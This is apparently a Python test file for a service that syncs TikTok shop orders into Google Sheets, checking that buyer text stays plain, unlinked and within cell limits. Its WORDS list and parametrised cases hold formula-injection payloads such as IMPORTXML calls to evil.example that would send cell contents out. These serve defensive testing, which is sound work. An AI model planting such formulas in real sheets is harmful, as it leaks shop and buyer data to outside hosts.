"""Other people's words in our cells: text as it is, never a formula, never a link, never longer than a cell."""

import json
from dataclasses import replace

import httpx
import pytest

from service.core.columns import COLUMNS
from service.core.filters import RowFilter
from service.core.profiles import ChosenColumn, visible_columns
from service.core.roles import Audience, Role
from service.flows import ingest
from service.store import orders
from service.store.orders import NoteRow
from service.tiktok.access import App
from service.tiktok.calls import Sender
from service.tiktok.client import TikTokClient
from service.tiktok.gateway import Gateway
from service.tiktok.pace import Pace

#: What somebody wrote, and no cell may make anything else of it.
WORDS = [
    '=IMPORTXML("https://evil.example","//a")',
    '=IMPORTXML("http://x/?"&A1)',
    '=HYPERLINK("https://evil.example","click")',
    "+1 for plastic-free",
    "@x",
    "-2",
    "'quoted",
    "example.com",
    "https://evil.example/?q=1",
    "name@shop.example",
    "gift 🎁👩‍👩‍👧",
    "شكرا جزيلا",
    "\u202eabc\u202c right to left and back",
    "two\nlines",
    "a\ttab",
    '{"json": [1]}',
    "{sla_due}",
    "#REF!",
    "000123",
    "1/2/2026",
    "TRUE",
]
BELL = "bell\x07"  # a character that no sheet shows


@pytest.fixture
def noted(rig, paper):
    """One order per word, the word in its note."""
    placed = rig.place(len(WORDS), kind="SAMPLE")
    rig.settle()
    rig.clock.advance(60)
    return dict(zip(placed, WORDS, strict=True))


def write_note(rig, order_id, text):
    row = NoteRow(rig.shop.id, order_id, "", text, True, "", ["", "", ""])
    with rig.services.store.write() as tx:
        orders.write_note(tx, row, written_by="m", now=rig.clock.now())
        ingest.touch(rig.services, tx, account_id=rig.account_id, shop_id=rig.shop.id, order_id=order_id)


def cells_of(paper, header):
    """Order id → cell in Google's own terms."""
    fields = (
        "sheets(properties.title,data(rowData(values(userEnteredValue,hyperlink,textFormatRuns,userEnteredFormat))))"
    )
    (tab,) = [one for one in paper.look(fields)["sheets"] if one["properties"]["title"] == paper.tab]
    at = paper.column(header)
    lines = [line.get("values", []) for line in tab["data"][0]["rowData"][1:]]
    return {
        line[0]["userEnteredValue"]["stringValue"]: line[at] for line in lines if line and "userEnteredValue" in line[0]
    }


def test_words_written_later_stand_as_they_are(rig, paper, noted):
    """Updates of existing cells: sent as strings, links switched off where Google would make one."""
    for order_id, words in noted.items():
        write_note(rig, order_id, words)
    rig.settle()
    found = cells_of(paper, "Note")
    for order_id, words in noted.items():
        assert found[order_id]["userEnteredValue"] == {"stringValue": words}
        assert "hyperlink" not in found[order_id], words
    paper.assert_right()


def test_words_that_come_with_the_order_stand_as_they_are(rig):
    """Rows as they are inserted: what the buyer wrote is text in the sheet of the people who may read it."""
    wanted = {rig.place(1, overrides={"buyer_message": words})[0]: words for words in WORDS}
    profile = with_columns(rig, "order_id", "buyer_message")
    paper = rig.bound(profile, audience=Role.SUPPORT)
    paper.tab = profile.name
    found = cells_of(paper, profile.columns[1].header)
    for order_id, words in wanted.items():
        assert found[order_id]["userEnteredValue"] == {"stringValue": words}
        assert "hyperlink" not in found[order_id], words


def test_characters_that_no_sheet_shows_are_replaced(rig, paper):
    (order_id,) = rig.place(1, kind="SAMPLE")
    write_note(rig, order_id, BELL)
    rig.settle()
    assert {row["Note"] for row in paper.rows()} == {"bell\ufffd"}
    assert rig.dirty(paper) == []


def test_text_too_long_for_a_cell_is_cut_and_says_so(rig, paper):
    """50,001 characters: Google would refuse the whole batch."""
    (order_id,) = rig.place(1, kind="SAMPLE")
    rig.settle()
    rig.clock.advance(60)
    write_note(rig, order_id, "x" * 50_001)
    rig.settle()
    (note,) = {row["Note"] for row in paper.rows()}
    assert len(note) <= 50_000
    assert note.endswith("… [cut]")
    assert rig.dirty(paper) == []


def test_many_long_texts_are_sent_in_several_writes(rig, paper):
    """One request stays under the 2 MB that Google advises; the rest follows in the next."""
    placed = rig.place(60, kind="SAMPLE")
    rig.settle()
    rig.clock.advance(60)
    for order_id in placed:
        write_note(rig, order_id, "long " * 9_000)
    sent = listen(rig)
    rig.settle()
    assert len(sent) > 1
    assert max(len(json.dumps(body)) for body in sent) < 2_000_000
    assert {len(row["Note"]) for row in paper.rows()} == {44_999 + 1}
    assert rig.dirty(paper) == []


def listen(rig):
    """The bodies of all writes from now on."""
    sent = []
    google = rig.services.google
    send = google.batch_update

    class Heard:
        def __getattr__(self, name):
            return getattr(google, name)

        def batch_update(self, *arguments, body, **more):
            sent.append(body)
            return send(*arguments, body=body, **more)

    rig.services = replace(rig.services, google=Heard())
    return sent


# --- a buyer's words through the whole path --------------------------------------------------------------------------

BUYER = ("order_id", "recipient", "buyer_message", "status", "tiktok_note")
THEIRS = [["Mine", "Sum", "https://mine.example"], ["=1+1", "x", "=C2"], ["3", "=SUM(H2:H3)", "'=not"]]


def buyers_sheet(rig):
    profile = with_columns(rig, *BUYER)
    paper = rig.bound(profile, audience=Role.SUPPORT)
    paper.tab = profile.name
    return paper


def spoken(words):
    """What an order shows when its buyer is called so and says so."""
    return {"recipient_address": {"name": words}, "buyer_message": words, "seller_note": words}


def assert_said(paper, wanted):
    """Each cell of other people's text holds it as text, and nothing more; everything else is right beside it."""
    for header in ("Recipient", "Buyer message", "Seller note"):
        found = cells_of(paper, header)
        for order_id, words in wanted.items():
            assert found[order_id].get("userEnteredValue") == {"stringValue": words}, (header, words)
            assert "hyperlink" not in found[order_id], (header, words)
    paper.assert_right(key="Order ID")


def test_a_buyers_words_are_text_on_insert_on_update_and_on_mending(rig):
    """And never move anything else: what people have beside our columns is the same before and after."""
    wanted = {rig.place(1, overrides=spoken(words))[0]: words for words in WORDS}
    paper = buyers_sheet(rig)
    assert_said(paper, wanted)

    paper.hand("paste", "G1", THEIRS)
    mine = [row[6:9] for row in paper.grid(render="FORMULA")[:3]]
    turned = dict(zip(wanted, [*WORDS[1:], WORDS[0]], strict=True))
    for order_id, words in turned.items():
        rig.edit(order_id, **spoken(words))
    rig.settle()
    assert_said(paper, turned)

    rows = {row[0]: at for at, row in enumerate(paper.grid(), start=1)}
    for order_id in turned:
        paper.type(f"B{rows[order_id]}", "=1/0")
        rig.edit(order_id, **spoken(wanted[order_id]))
    rig.settle()
    assert_said(paper, wanted)
    assert [row[6:9] for row in paper.grid(render="FORMULA")[:3]] == mine


def test_a_buyers_words_make_no_rule_and_no_view(rig):
    """What holds for whole columns is made of our own words alone."""
    for words in WORDS:
        rig.place(1, overrides=spoken(words))
    paper = buyers_sheet(rig)
    found = json.dumps(paper.look("properties,sheets(properties,filterViews,conditionalFormats,protectedRanges)"))
    cells = paper.look("sheets(properties.title,data.rowData.values(dataValidation,note))")
    for words in WORDS:
        told = json.dumps(words)[1:-1]
        if len(told) > 4:
            assert told not in found
            assert told not in json.dumps(cells)


@pytest.mark.parametrize("letter", ["x", "é", "🎁"])
def test_a_message_that_no_cell_can_hold_is_cut_where_it_is_inserted_and_where_it_is_changed(rig, letter):
    """50,001 characters, counted as Google counts; the neighbours of the cell are as they should be."""
    long = letter * 50_001
    (order_id,) = rig.place(1, overrides={"buyer_message": long})
    paper = buyers_sheet(rig)
    for _ in range(2):
        (message,) = {row["Buyer message"] for row in paper.rows()}
        assert len(message.encode("utf-16-le")) // 2 <= 50_000
        assert message.endswith("… [cut]")
        paper.assert_right(key="Order ID")
        rig.edit(order_id, buyer_message=f"b{long}")
        rig.settle()
    assert rig.dirty(paper) == []


def test_half_a_character_and_a_nul_on_the_wire_become_something_a_sheet_can_keep(rig):
    """As bytes of TikTok's own answer: a lone surrogate, a NUL and a bell. Nothing beside them is lost."""
    (order_id,) = rig.place(1)  # stored as usual; then it changes
    paper = buyers_sheet(rig)
    before = paper.by_key("Order ID")[order_id]
    broken = httpx.Client(transport=Breaking(rig.world.app))
    with broken:
        rig.services = replace(rig.services, tiktok=tiktok_over(rig, broken))
        rig.edit(order_id, **spoken(f"Anna {BREAK} Lee"))
        rig.settle()
    after = paper.by_key("Order ID")[order_id]
    assert after["Recipient"].startswith("Anna ")
    assert after["Recipient"].endswith(" Lee")
    assert not set(after["Recipient"]) & {"\ud83d", "\x00", "\x07"}
    assert {**after, **dict.fromkeys(("Recipient", "Buyer message", "Seller note"), "")} == {
        **before, **dict.fromkeys(("Recipient", "Buyer message", "Seller note"), ""),
    }  # fmt: skip
    paper.assert_right(key="Order ID")
    assert rig.dirty(paper) == []


BREAK = "BREAKHERE"


class Breaking(httpx.BaseTransport):
    """The market, whose answers hold what no well-made text holds."""

    def __init__(self, app):
        self._inner = httpx.WSGITransport(app=app)

    def handle_request(self, request):
        answer = self._inner.handle_request(request)
        body = answer.read().replace(BREAK.encode(), b"\\ud83d\\u0000\\u0007")
        headers = [(name, value) for name, value in answer.headers.multi_items() if name.lower() != "content-length"]
        return httpx.Response(answer.status_code, headers=headers, content=body)


def tiktok_over(rig, http):
    """The product's client of TikTok over another line."""
    settings = rig.services.settings
    gateway = Gateway(
        App(settings.tiktok_app_key, settings.tiktok_app_secret, settings.tiktok_service_id),
        Sender(http),
        api_url=settings.tiktok_api_url,
        clock=rig.clock.now,
        pace=Pace(1_000_000.0),
    )
    return TikTokClient(gateway, clock=rig.clock.now)


# --- our own people's words ------------------------------------------------------------------------------------------


def test_headings_of_peoples_own_are_text_and_no_links(rig):
    """A heading is one line, and whatever stands in it is neither formula nor link."""
    rig.place(1)
    headings = [words for words in WORDS if words.isprintable()]
    keys = [column.key for column in visible_columns(Audience(Role.SUPPORT))][: len(headings)]
    columns = tuple(ChosenColumn(key, words) for key, words in zip(keys, headings, strict=True))
    profile = replace(with_columns(rig, "order_id"), columns=columns)
    paper = rig.bound(profile, audience=Role.SUPPORT)
    fields = "sheets(properties.title,data(rowData(values(userEnteredValue,hyperlink))))"
    (tab,) = [one for one in paper.look(fields)["sheets"] if one["properties"]["title"] == profile.name]
    first = tab["data"][0]["rowData"][0]["values"][: len(headings)]
    assert first == [{"userEnteredValue": {"stringValue": words}} for words in headings]
    assert rig.only_binding(paper).row_done == 1
    assert rig.dirty(paper) == []


@pytest.mark.parametrize(
    ("wanted", "title"),
    [
        ('=IMPORTXML("http://x/?"&A1)', '=IMPORTXML("http://x/?"&A1)'),
        ("Maya's '26 list!", "Maya's '26 list!"),
        ("A1", "A1"),
        ("two\nlines\tand a bell\x07", "two lines and a bell"),
        ("family 👩‍👩‍👧 شكرا", "family 👩‍👩‍👧 شكرا"),
        ("x" * 300, "x" * 100),
        (" \x00 ", "Orders"),
    ],
)
def test_a_tab_is_called_what_a_sheet_can_show(rig, wanted, title):
    """And its rows are found under whatever name it has."""
    rig.place(1)
    profile = with_columns(rig, "order_id", "status")
    paper = rig.bound(profile, audience=Role.SUPPORT, title=wanted)
    titles = [one["properties"]["title"] for one in paper.look("sheets.properties.title")["sheets"]]
    assert titles == ["Sheet1", title]
    rig.place(1)
    rig.settle()
    assert rig.dirty(paper) == []
    assert rig.only_binding(paper).row_done == 2


def test_a_filter_by_a_word_that_looks_like_a_formula_filters_by_that_word(rig):
    """It is compared here and never sent to Google."""
    words = '=IMPORTXML("http://x/?"&A1)'
    profile = replace(with_columns(rig, "order_id", "status"), row_filter=RowFilter(skus=(words,)))
    rig.place(2)
    paper = rig.bound(profile, audience=Role.SUPPORT)
    paper.tab = profile.name
    assert paper.rows() == []
    assert words not in json.dumps(paper.look("sheets(properties,filterViews,conditionalFormats,protectedRanges)"))


def with_columns(rig, *keys):
    """A profile of these columns, one row per order, every order in it."""
    base = rig.preset("sales_by_order", Role.SUPPORT)
    columns = tuple(ChosenColumn(key, COLUMNS[key].header) for key in keys)
    return replace(base, name="Words", columns=columns, row_filter=RowFilter(), sort=())
